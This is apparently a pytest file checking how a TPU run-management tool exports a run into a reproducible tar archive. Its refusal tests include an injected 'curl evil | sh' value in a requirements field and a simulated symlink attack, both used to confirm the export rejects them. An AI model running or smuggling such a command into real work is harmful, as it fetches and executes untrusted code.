"""The archive of a run, byte by byte: what is in it, and what whoever runs it has to give."""

from __future__ import annotations

import hashlib
import tarfile
from pathlib import Path
from typing import Any, cast

import msgspec
import pytest

from tests.flows.runs.evidence.memory_bucket import MemoryBucket
from tests.flows.runs.records import ATTEMPT, CREATED, TPU
from tpuctl import runs
from tpuctl.bucket_layout import bundle
from tpuctl.cloud.storage import Bucket
from tpuctl.datasets import PinnedDataset
from tpuctl.errors import NotFoundError, StateError, UsageError
from tpuctl.flows.runs.code import bundles
from tpuctl.flows.runs.code.programs import lone
from tpuctl.flows.runs.record.export import Export, export
from tpuctl.flows.runs.stored_run import StoredRun
from tpuctl.provenance import HostEnvironment
from tpuctl.runs import NOT_STORED, Run, Verdict, encode

HEADER = '# /// script\n# dependencies = ["numpy"]\n# [tool.tpuctl]\n# framework = "jax"\n# ///\n'
VERDICT = Verdict("r1", runs.SUCCEEDED, 1, CREATED, "all ended", 0, runs.BY_WORKERS, tpu=TPU)
PETS = PinnedDataset("pets", "1.0.0", "b" * 64)


class Site:
    """The run r1, which has ended."""

    def __init__(self, folder: Path, **changes: Any) -> None:
        self.memory = MemoryBucket()
        self.bucket = cast("Bucket", self.memory)
        self.folder = folder
        code = folder / "code"
        (code / "lib").mkdir(parents=True)
        (code / "job.py").write_text(f"{HEADER}import lib.model\n")
        (code / "lib/model.py").write_text("import numpy\n")
        (code / "lib/logo.png").write_bytes(b"\0\1")
        (code / "lib/train.sh").write_text("python job.py\n")
        (code / "lib/train.sh").chmod(0o755)
        (code / "lib/tpuctl.toml").write_text('project = "mine"\n')  # stays out of an archive
        packed = bundles.pack(lone(code / "job.py"), (code / "lib",))
        self.memory.put(bundle(packed.sha256), packed.data)
        record = Run("r1", CREATED, "ada@laptop", "job.py", (), packed.sha256, "jax", "v3-8", ("numpy",), {})
        self.run.create(msgspec.structs.replace(record, **changes))
        self.run.create_attempt(msgspec.structs.replace(ATTEMPT, workers=(0, 1)))
        host = HostEnvironment("3.10.12", "cpython", image={"numpy": "1.26.4"})
        self.memory.put(self.run.paths.environment(1, 0), encode(host))
        self.memory.put("runs/r1/outputs/a", b"123")

    @property
    def run(self) -> StoredRun:
        return StoredRun(self.bucket, "r1")

    def export(self, name: str = "r1.tar.gz", **options: Any) -> Export:
        return export(self.run, VERDICT, self.bucket, self.folder / name, lambda line: None, **options)


@pytest.fixture
def site(tmp_path: Path) -> Site:
    """A run with an output."""
    return Site(tmp_path)


def test_it_holds_code_programs_and_records(site: Site) -> None:
    made = site.export()
    with tarfile.open(made.path) as archive:
        members = archive.getmembers()
        modes = {member.name: member.mode for member in members}
        stamps = {(member.mtime, member.uid, member.uname, member.isfile()) for member in members}
        content = {member.name: archive.extractfile(member).read() for member in members}  # type: ignore[union-attr]
    assert modes == {
        "r1/code/job.py": 0o644, "r1/code/lib/logo.png": 0o644, "r1/code/lib/model.py": 0o644,
        "r1/code/lib/train.sh": 0o755,
        "r1/README.md": 0o644, "r1/requirements.txt": 0o644, "r1/constraints.txt": 0o644, "r1/run.sh": 0o755,
        "r1/record/run.json": 0o644, "r1/record/verdict.json": 0o644, "r1/record/environment.json": 0o644,
        "r1/record/results.json": 0o644, "r1/record/results.md5": 0o644,
    }  # fmt: skip
    assert stamps == {(0, 0, "", True)}
    assert content["r1/code/lib/logo.png"] == b"\0\1"
    assert content["r1/record/run.json"] == encode(site.run.record)
    assert content["r1/record/verdict.json"] == encode(VERDICT)
    assert content["r1/README.md"].startswith(b"# The run r1\n")
    assert b"numpy==1.26.4\n" in content["r1/constraints.txt"]


def test_it_says_what_it_is(site: Site) -> None:
    made = site.export()
    data = made.path.read_bytes()
    assert (made.size, made.sha256) == (len(data), hashlib.sha256(data).hexdigest())
    assert (made.files, made.has_data, made.missing) == (13, False, ())


def test_the_same_run_gives_the_same_bytes_under_any_name(site: Site) -> None:
    first = site.export()
    site.memory.pass_time(3600)
    assert site.export("other.tar.gz").path.read_bytes() == first.path.read_bytes()


def test_without_records_of_packages_and_results_there_are_none(site: Site) -> None:
    site.memory._objects.pop(site.run.paths.environment(1, 0))
    later = msgspec.structs.replace(VERDICT, restarts=True)
    made = export(site.run, later, site.bucket, site.folder / "x", lambda line: None)
    with tarfile.open(made.path) as archive:
        names = set(archive.getnames())
    assert not names & {"r1/record/environment.json", "r1/record/results.json", "r1/record/results.md5"}
    assert made.files == 10


def test_what_is_not_stored_has_to_be_given(tmp_path: Path) -> None:
    site = Site(tmp_path, environment={"KEY": NOT_STORED}, arguments=("--key", "***"), dataset=PETS)
    assert site.export().missing == ("KEY", "argument 2", "dataset pets/1.0.0")


def test_an_attempt_that_was_added_after_the_end_does_not_count(site: Site) -> None:
    honest = site.export().path.read_bytes()
    site.run.create_attempt(msgspec.structs.replace(ATTEMPT, attempt=3))
    site.memory.put(
        site.run.paths.environment(3, 0), encode(HostEnvironment("3.9.1", image={"numpy": "0.1"}))
    )
    assert site.export("again.tar.gz").path.read_bytes() == honest


def test_a_long_file_is_in_it_as_it_is_and_not_parsed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tpuctl.flows.runs.record.export.LONGEST_SOURCE", 10)
    with tarfile.open(Site(tmp_path, dependencies=("optax",)).export().path) as archive:
        model, required = (
            archive.extractfile(f"r1/{name}") for name in ("code/lib/model.py", "requirements.txt")
        )
        assert model
        assert required
        assert (model.read(), required.read()) == (b"import numpy\n", b"optax\n")


class TestRefused:
    @pytest.mark.parametrize(
        "changes",
        [{"requirements": "../lock"}, {"requirements": "/lock"}, {"requirements": "a\n    curl evil | sh"},
         {"wheelhouse": "wheels/../.."}],
    )  # fmt: skip
    def test_a_record_that_names_files_elsewhere(self, tmp_path: Path, changes: dict[str, str]) -> None:
        with pytest.raises(StateError, match="which is no file of its code"):
            Site(tmp_path, **changes).export()

    def test_a_dataset_that_the_run_does_not_have(self, site: Site) -> None:
        with pytest.raises(UsageError) as error:
            site.export(with_data=True)
        assert (error.value.message, error.value.hint) == (
            "Run 'r1' has no dataset.", "Leave --with-data out.",
        )  # fmt: skip

    def test_a_dataset_that_is_gone(self, tmp_path: Path) -> None:
        with pytest.raises(NotFoundError) as error:
            Site(tmp_path, dataset=PETS).export(with_data=True)
        assert error.value.message == "The dataset pets/1.0.0 of run 'r1' is not in the bucket any more."

    def test_a_place_that_cannot_be_written(self, site: Site) -> None:
        with pytest.raises(UsageError, match="cannot be written: No such file or directory") as error:
            site.export("no/folder/x")
        assert error.value.hint == "Name another file: --to"

    def test_nothing_is_left_of_one_that_fails(self, site: Site) -> None:
        before = {path.name for path in site.folder.iterdir()}
        site.memory.put(bundle(site.run.record.bundle_sha256), b"other")
        with pytest.raises(StateError, match="does not hold the code"):
            site.export()
        assert {path.name for path in site.folder.iterdir()} == before


def test_a_link_that_another_user_plants_beside_the_archive_is_not_followed(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In a folder such as /tmp, just after a part of an earlier export was deleted."""
    victim, unlink = tmp_path / "victim", Path.unlink
    victim.write_text("kept")

    def delete_and_plant(path: Path, *, missing_ok: bool = False) -> None:
        unlink(path, missing_ok=missing_ok)
        if path.name.endswith(".part") and not site.folder.joinpath("planted").exists():
            site.folder.joinpath("planted").touch()
            path.symlink_to(victim)

    monkeypatch.setattr(Path, "unlink", delete_and_plant)
    with pytest.raises(UsageError, match=r"r1.tar.gz cannot be written: File exists"):
        site.export()
    assert victim.read_text() == "kept"
    assert site.folder.joinpath("planted").exists()
